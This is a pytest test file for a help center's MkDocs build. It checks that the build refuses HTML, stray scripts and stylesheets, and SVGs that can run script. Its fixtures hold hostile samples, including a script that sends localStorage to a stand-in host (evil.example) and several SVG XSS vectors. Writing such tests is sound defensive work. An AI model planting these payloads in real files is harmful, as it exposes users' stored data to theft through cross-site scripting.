"""Every file under docs/ besides pages is judged by its type: none may run script on the site's origin.

MkDocs copies every other file as it is; a browser runs an .html page, an SVG
with a <script> or a stray .js file with the help center's address, where no
<meta> policy reaches. The build stops at each such file, before copying any.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from helpcenter.security.static_files import svg_problems
from sitebuilder import build_site

HOME = "---\ntitle: Home\ndescription: The home page.\n---\n\nWelcome.\n"
REDRAW = "-> export the drawing again as plain SVG, or save it as PNG"
HTML_PAGE = (
    "file-type-not-allowed a page in HTML runs its scripts with the help center's address, beyond what the build"
    " checks -> write it as a Markdown page (.md); for a download readers keep, save it as PDF"
)
SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n{}\n</svg>\n'


def test_files_that_run_script_stop_the_build_each_at_its_path(tmp_path: Path) -> None:
    result = build_site(
        tmp_path,
        {"index.md": HOME},
        extra_files={
            "docs/assets/images/help.html": "<script>fetch('https://evil.example/?' + localStorage)</script>\n",
            "docs/assets/images/chart.svg": SVG.format("<script>fetch('https://evil.example/')</script>"),
            "docs/old/page.htm": "<p>An old page.</p>\n",
            "docs/feed.xml": '<?xml-stylesheet href="x.xsl" type="text/xsl"?><feed/>\n',
            "docs/assets/images/w.js": "onmessage = () => fetch('https://evil.example/');\n",
            "docs/assets/stylesheets/extra.css": "body { color: red }\n",
            "docs/downloads/template.csv": "a,b\n",
            "docs/assets/images/logo.png": b"\x89PNG\r\n\x1a\n",
            "docs/manual.pdf": b"%PDF-1.7\n",
            "docs/assets/fonts/brand.woff2": b"wOF2",
        },
    )
    assert not result.ok
    assert "Traceback" not in result.output
    assert result.problems == [
        f"docs/assets/images/chart.svg:2:1: svg-not-allowed <script> runs script when the file is opened {REDRAW}",
        f"docs/assets/images/help.html: {HTML_PAGE}",
        "docs/assets/images/w.js: file-type-not-allowed a script mkdocs.yml does not list as the site's own: any page"
        " or worker could load it with the help center's address -> delete it; the site's own scripts live under"
        " docs/assets/, listed in extra_javascript in mkdocs.yml, reviewed by a developer",
        "docs/assets/stylesheets/extra.css: file-type-not-allowed a stylesheet mkdocs.yml does not list as the site's"
        " own: any page or worker could load it with the help center's address -> delete it; the site's own"
        " stylesheets live under docs/assets/, listed in extra_css in mkdocs.yml, reviewed by a developer",
        "docs/downloads/template.csv: file-type-not-allowed '.csv' files are not among the types the help center"
        " publishes (images (PNG, JPEG, GIF, WebP, AVIF, SVG), PDF, audio, video and fonts) -> save it as one of"
        " those, or ask a developer to add its type to hooks/helpcenter/security/static_files.py after review",
        "docs/feed.xml: file-type-not-allowed an XML file can carry a stylesheet that runs script with the help"
        " center's address -> write it as a Markdown page (.md); for a download readers keep, save it as PDF",
        f"docs/old/page.htm: {HTML_PAGE}",
        "7 files above cannot be published safely; nothing was built",
    ]
    assert not (result.site_dir / "assets" / "images" / "help.html").exists()


def test_the_site_s_own_files_and_plain_media_are_published(tmp_path: Path) -> None:
    result = build_site(
        tmp_path,
        {"index.md": HOME},
        extra_files={
            "docs/assets/stylesheets/helpcenter.css": "body { color: black }\n",
            "docs/assets/javascripts/feedback.js": "// the site's own\n",
            "docs/assets/images/chart.svg": SVG.format('<defs><linearGradient id="g"/></defs><rect fill="url(#g)"/>'),
            "docs/assets/images/photo.jpg": b"\xff\xd8\xff",
            "docs/assets/video/tour.mp4": b"\x00\x00\x00\x18ftypmp42",
            "docs/manual.pdf": b"%PDF-1.7\n",
            "docs/_snippets/note.md": "A snippet.\n",
        },
        config={"exclude_docs": "_snippets/"},
    )
    assert result.ok, result.output
    assert (result.site_dir / "assets" / "images" / "chart.svg").exists()


# SVG body (line 2 of the file) -> the exact problems
SVG_CASES: dict[str, tuple[str, list[str]]] = {
    "script": ("<script>alert(1)</script>", [f"2: <script> runs script when the file is opened {REDRAW}"]),
    "script-any-case": ("<SCRIPT>alert(1)</SCRIPT>", [f"2: <SCRIPT> runs script when the file is opened {REDRAW}"]),
    "handler": (
        '<rect onload="alert(1)"/>',
        [f"2: 'onload' runs script when a reader opens or touches the drawing {REDRAW}"],
    ),
    "foreign-object": (
        '<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>',
        [
            f"2: <foreignObject> embeds HTML or another document when the file is opened {REDRAW}",
            f"2: <div> is not SVG (namespace 'http://www.w3.org/1999/xhtml') {REDRAW}",
        ],
    ),
    "external-link": (
        '<a xlink:href="https://evil.example/"><text>x</text></a>',
        [
            "2: 'href' points outside the drawing ('https://evil.example/') -> keep everything inside it; export the"
            " drawing again as plain SVG, or save it as PNG"
        ],
    ),
    "javascript-link": (
        '<a href="javascript:alert(1)"><text>x</text></a>',
        [
            "2: 'href' points outside the drawing ('javascript:alert(1)') -> keep everything inside it; export the"
            " drawing again as plain SVG, or save it as PNG"
        ],
    ),
    "animated-link": (
        '<a><set attributeName="href" to="javascript:alert(1)"/></a>',
        [f"2: <set> changes a link of the drawing, which can make it run script {REDRAW}"],
    ),
    "style-import": (
        "<style>@import url(https://evil.example/x.css);</style>",
        [f"2: <style> loads something from outside the drawing {REDRAW}"],
    ),
    "style-attribute": (
        '<rect style="fill: url(https://evil.example/x)"/>',
        [f"2: 'style' loads something from outside the drawing {REDRAW}"],
    ),
    "local-references": ('<use href="#a"/><rect fill="url(#g)"/><image href="data:image/png;base64,AA=="/>', []),
}


@pytest.mark.parametrize("case", SVG_CASES)
def test_an_svg_is_read_as_xml_and_refused_at_the_line_of_what_runs(case: str) -> None:
    body, expected = SVG_CASES[case]
    found = svg_problems(SVG.format(body).encode(), "docs/x.svg")
    assert [f"{finding.line}: {finding.message}" for finding in found] == expected
    assert all(finding.column for finding in found)
    assert all(finding.path == "docs/x.svg" and finding.code == "svg-not-allowed" for finding in found)


def test_an_svg_with_entities_or_a_stylesheet_is_refused() -> None:
    entities = b'<?xml version="1.0"?>\n<!DOCTYPE svg [<!ENTITY x "&lt;script&gt;">]>\n<svg xmlns="http://www.w3.org/2000/svg">&x;</svg>'
    stylesheet = b'<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'
    assert [str(found) for found in svg_problems(entities, "docs/e.svg")] == [
        "docs/e.svg:2:15: svg-not-allowed the file declares its own entities, which a browser expands into the"
        f" drawing {REDRAW}"
    ]
    assert [str(found) for found in svg_problems(stylesheet, "docs/s.svg")] == [
        f"docs/s.svg:1:1: svg-not-allowed <?xml-stylesheet ...?> can load a stylesheet from elsewhere {REDRAW}"
    ]
    public_dtd = (
        b'<?xml version="1.0"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN"'
        b' "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n<svg xmlns="http://www.w3.org/2000/svg"/>'
    )
    assert svg_problems(public_dtd, "docs/p.svg") == []


def test_an_svg_that_is_not_xml_is_refused_at_its_line() -> None:
    found = svg_problems(b'<svg xmlns="http://www.w3.org/2000/svg">\n<rect/>\n<rect>', "docs/x.svg")
    assert [str(finding) for finding in found] == [
        f"docs/x.svg:3:7: svg-not-allowed not a well-formed SVG file (no element found) {REDRAW}"
    ]
